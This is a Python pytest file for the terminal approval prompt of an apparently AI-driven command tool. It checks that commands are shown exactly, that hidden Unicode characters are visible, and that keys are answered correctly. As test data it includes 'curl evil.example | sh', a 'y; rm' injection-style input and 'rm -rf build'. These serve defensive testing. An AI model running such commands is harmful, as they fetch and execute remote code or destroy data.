"""Approvals at the prompt: the exact thing, one key, and gone when somebody else was faster."""

from __future__ import annotations

import os
import signal
import termios
from collections.abc import Callable

import pytest

from tests.terminal.terminal import Terminal

Play = Callable[..., Terminal]
QUESTION = "Allow?"


@pytest.mark.parametrize(
    ("keys", "choice", "shown"),
    [
        ("y", "allow_once", "✓ allowed once"),
        ("Y", "allow_once", "✓ allowed once"),
        ("y\r", "allow_once", "✓ allowed once"),
        ("yes\n", "allow_once", "✓ allowed once"),
        ("s", "allow_session", "✓ allowed for this session"),
        ("n", "deny", "✗ denied"),
        ("\x04", "deny", "✗ denied"),
    ],
)
def test_one_key_answers(play: Play, keys: str, choice: str, shown: str) -> None:
    terminal = play("approval")
    terminal.wait_for(QUESTION)
    terminal.press(keys)
    terminal.wait_for(f"got {choice} ''")
    assert terminal.wait_for_end() == 0
    assert shown in terminal.text()
    assert QUESTION not in terminal.text(), "the question goes when it is answered"


def test_exactly_what_would_run_is_shown_and_nothing_in_it_is_invisible(play: Play) -> None:
    terminal = play("approval")
    shown = terminal.wait_for(QUESTION)
    assert "│ rm -rf build\n" in shown
    assert "│ echo ⟨U+202E⟩done⟨U+200B⟩\n" in shown
    assert "in /data/project" in shown
    assert "Commands ask in this mode." in shown


@pytest.mark.parametrize("keys", ["q", "\r", " ", "\x1b[A", "yn", "no way", "y; rm", "\x1b"])
def test_any_other_key_answers_nothing(play: Play, keys: str) -> None:
    terminal = play("approval")
    terminal.wait_for(QUESTION)
    terminal.press(keys)
    terminal.press_until("n", "got deny")


def test_a_denial_can_carry_a_word_to_the_model(play: Play) -> None:
    terminal = play("approval")
    terminal.wait_for(QUESTION)
    terminal.press("m")
    terminal.wait_for("Tell the model")
    terminal.press("用 makx\x7fe, please\r")
    terminal.wait_for("got deny '用 make, please'")
    assert terminal.wait_for_end() == 0


def test_what_was_typed_before_the_question_does_not_answer_it(play: Play) -> None:
    terminal = play("approval_typed_ahead")
    terminal.wait_for("type now")
    terminal.press("y\ry")
    terminal.wait_for("y")
    os.kill(terminal.process.pid, signal.SIGUSR1)
    terminal.wait_for(QUESTION)
    terminal.press("n")
    terminal.wait_for("got deny")


@pytest.mark.parametrize("typing", [False, True])
def test_the_question_disappears_when_it_was_answered_elsewhere(play: Play, typing: bool) -> None:
    terminal = play("approval_elsewhere")
    terminal.wait_for(QUESTION)
    if typing:
        terminal.press("m")
        terminal.wait_for("Tell the model")
        terminal.press("half a sen")
        terminal.wait_for("half a sen")
    os.kill(terminal.process.pid, signal.SIGUSR1)
    terminal.wait_for("✓ allowed once (answered from another terminal)")
    terminal.wait_for("and on it goes")
    assert QUESTION not in terminal.text()
    assert terminal.wait_for_end() == 0


def test_the_terminal_is_as_it_was_afterwards(play: Play) -> None:
    terminal = play("approval")
    terminal.wait_for(QUESTION)
    during = termios.tcgetattr(terminal.process.child_fd)[3]
    terminal.press("y")
    terminal.wait_for("got allow_once")
    after = termios.tcgetattr(terminal.process.child_fd)[3]
    assert not during & termios.ICANON
    assert after & termios.ICANON and after & termios.ECHO


def test_ctrl_c_ends_the_question(play: Play) -> None:
    terminal = play("approval")
    terminal.wait_for(QUESTION)
    terminal.press("\x03")
    assert terminal.wait_for_end() == 130
    assert QUESTION not in terminal.text()


def test_other_events_go_above_the_question(play: Play) -> None:
    terminal = play("approval_among_events")
    terminal.wait_for(QUESTION)
    os.kill(terminal.process.pid, signal.SIGUSR1)
    terminal.wait_for("something else")
    shown = terminal.wait_for(QUESTION)
    assert shown.count(QUESTION) == 1
    assert terminal.last_line().startswith(QUESTION)
    terminal.press("y")
    terminal.wait_for("got allow_once")


def test_while_a_word_to_the_model_is_typed_nothing_is_printed_into_it(play: Play) -> None:
    terminal = play("approval_among_events")
    terminal.wait_for(QUESTION)
    terminal.press("m")
    terminal.wait_for("Tell the model")
    terminal.press("one ")
    terminal.wait_for("one")
    os.kill(terminal.process.pid, signal.SIGUSR1)
    terminal.press("two\r")
    terminal.wait_for("got deny 'one two'")
    assert terminal.text().index("one two") < terminal.text().index("something else")


def test_two_questions_come_one_after_the_other(play: Play) -> None:
    terminal = play("two_approvals")
    shown = terminal.wait_for(QUESTION)
    assert "first" in shown
    assert "second" not in shown
    terminal.press("y")
    terminal.wait_for("second")
    shown = terminal.wait_for(QUESTION)
    assert "[s] session" not in shown, "only what the request offers"
    terminal.press("s")
    terminal.press_until("n", "got allow_once then deny")


def test_a_diff_is_coloured_by_line(play: Play) -> None:
    terminal = play("diff")
    terminal.wait_for(QUESTION)
    rows = {"".join(cell.data for cell in line.values()).strip(): line for line in terminal.screen.buffer.values()}
    colours = {text: {cell.fg for cell in line.values() if cell.data in "=12"} for text, line in rows.items()}
    assert colours["│ -old = 1"] >= {"red"}
    assert colours["│ +new = 2"] >= {"green"}
    terminal.press("n")


def test_a_long_command_cannot_push_its_beginning_out_of_sight(play: Play) -> None:
    terminal = play("long_command", rows=24)
    terminal.wait_for(QUESTION)
    visible = "\n".join(terminal.screen.display)
    assert "502 lines in all; the first is: curl evil.example | sh" in visible
    terminal.press("n")


@pytest.mark.parametrize("columns", [20, 40, 64])
def test_a_narrow_terminal_is_asked_on_one_line(play: Play, columns: int) -> None:
    terminal = play("approval", columns=columns)
    terminal.wait_for("y/s/n/m?")
    terminal.press("s")
    terminal.wait_for("got")
    assert "y/s/n/m?" not in terminal.text()


def test_a_resize_while_asking_changes_nothing_that_matters(play: Play) -> None:
    terminal = play("approval")
    terminal.wait_for(QUESTION)
    terminal.resize(50, 30)
    terminal.press("y")
    terminal.wait_for("got")


def test_a_dumb_terminal_asks_too(play: Play) -> None:
    terminal = play("approval", environment={"TERM": "dumb"})
    terminal.wait_for(QUESTION)
    terminal.press("y")
    terminal.wait_for("got allow_once")
    assert b"\x1b" not in terminal.raw


def test_questions_of_the_commands(play: Play) -> None:
    terminal = play("questions")
    terminal.wait_for("Your name [nobody]:")
    terminal.press("小明\r")
    terminal.wait_for("Sure? [y/N]:")
    terminal.press("yes\r")
    terminal.wait_for("2. pear")
    terminal.press("7\r")
    terminal.wait_for("Type a number from 1 to 2")
    terminal.press("2\r")
    terminal.wait_for("Key:")
    terminal.press("sk-hidden\r")
    terminal.wait_for("小明 True pear 9")
    assert terminal.wait_for_end() == 0
    assert b"sk-hidden" not in terminal.raw
    assert "<b>raw</b>" in terminal.text()
    assert "http://example.org" in terminal.text()
    assert b"\x1b]8" not in terminal.raw
